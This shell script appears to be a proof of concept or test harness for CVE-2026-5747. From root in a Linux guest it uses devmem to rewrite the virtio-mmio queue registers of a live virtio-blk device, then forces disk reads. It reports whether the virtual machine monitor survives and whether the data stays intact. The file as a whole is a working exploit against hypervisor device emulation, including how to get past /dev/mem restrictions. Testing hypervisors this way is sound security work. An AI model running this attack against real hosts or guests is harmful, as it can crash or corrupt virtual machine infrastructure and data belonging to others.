#!/bin/sh
# CVE-2026-5747 from a root process of the Linux guest, while virtio-blk is live: rewrite the
# queue registers of the virtio-mmio window with busybox `devmem`, read them back, then make the
# driver use the queue (O_DIRECT reads of /dev/vda, compared with a read made before the attack).
#
# Debian's kernel is built with CONFIG_STRICT_DEVMEM=y and CONFIG_IO_STRICT_DEVMEM=y: /dev/mem
# refuses MMIO ranges a driver claimed (virtio_mmio claims its window) unless the kernel was
# booted with `iomem=relaxed`. Lockdown is not forced (CONFIG_LOCK_DOWN_KERNEL_FORCE_NONE=y), so
# with that parameter root may map the window. A guest's root controls its own command line, so
# this stays inside the threat model of the CVE.
#
# Output (each line `ATTACK linux-<what> observed key=value ...`):
#   linux-setup          the window, the status register, the sha256 of the reference read
#   linux-<name> rewrite register read-backs before/after the write (printed before any I/O:
#                        a VMM stopped by the next request still shows what the guest did)
#   linux-<name> io      whether the reads after the rewrite succeeded and returned the same bytes
# Blocks read per pass: more than the largest queue (256 entries), so the ring indices wrap.
set -u
blocks=300
reg() { printf '0x%x' $((base + $1)); }
rd() { devmem "$(reg "$1")" 32 2>/dev/null || echo refused; }
wr() { devmem "$(reg "$1")" 32 "$2" 2>/dev/null && echo done || echo refused; }

# The virtio-mmio windows the kernel found in ACPI (_HID LNRO0005); the block device's (DeviceID
# 2, VirtIO 1.2 §5) is attacked. The first window stays selected if /dev/mem refuses reads.
windows=$(grep -i 'LNRO0005' /proc/iomem | sed 's/^ *//; s/-.*//')
base=
for w in $windows; do
    base=$((0x$w))
    [ "$(rd 0x008)" = 0x00000002 ] && break
done
if [ -z "$base" ]; then
    echo "ATTACK linux-setup observed error=no-virtio-mmio-window"
    exit 1
fi
# shellcheck disable=SC2086 # one word per window
[ "$(rd 0x008)" = 0x00000002 ] || { set -- $windows; base=$((0x$1)); }

# sha256 (first 16 hex digits) of the first $blocks blocks, read with O_DIRECT: every byte comes
# from the device, none from the page cache. "error" if the read failed or came back short.
read_disk() {
    out=$(dd if=/dev/vda bs=4096 count=$blocks iflag=direct 2>/tmp/attack-dd.err \
          | sha256sum | cut -c1-16)
    if grep -q "^$blocks+0 records in" /tmp/attack-dd.err; then
        echo "$out"
    else
        echo error
    fi
}

reference=$(read_disk)
echo "ATTACK linux-setup observed window=$(printf '0x%x' "$base") status=$(rd 0x070)" \
     "magic=$(rd 0x000) device_id=$(rd 0x008) blocks=$blocks sha=$reference"
if [ "$(rd 0x000)" = refused ]; then
    echo "ATTACK linux-setup observed error=devmem-refused hint=boot-with-iomem=relaxed"
    exit 1
fi

attack() {  # name register value
    name=$1; off=$2; val=$3
    status=$(rd 0x070)
    sel=$(wr 0x030 0)                  # QueueSel = 0: the queue the driver uses
    before=$(rd "$off")
    w=$(wr "$off" "$val")
    after=$(rd "$off")
    echo "ATTACK linux-$name observed phase=rewrite register=$off value=$val status=$status" \
         "queue_sel=$sel before=$before write=$w after=$after ready=$(rd 0x044)"
    got=$(read_disk)
    same=0
    [ "$got" = "$reference" ] && same=1
    io_ok=1
    [ "$got" = error ] && io_ok=0
    echo "ATTACK linux-$name observed phase=io io_ok=$io_ok disk_ok=$same sha=$got" \
         "status_after=$(rd 0x070)"
}

attack queue-num-huge 0x038 0xffff
attack queue-desc-outside 0x084 0x1
attack queue-device-outside 0x0a4 0x1
echo "ATTACK linux-done observed status=$(rd 0x070)"
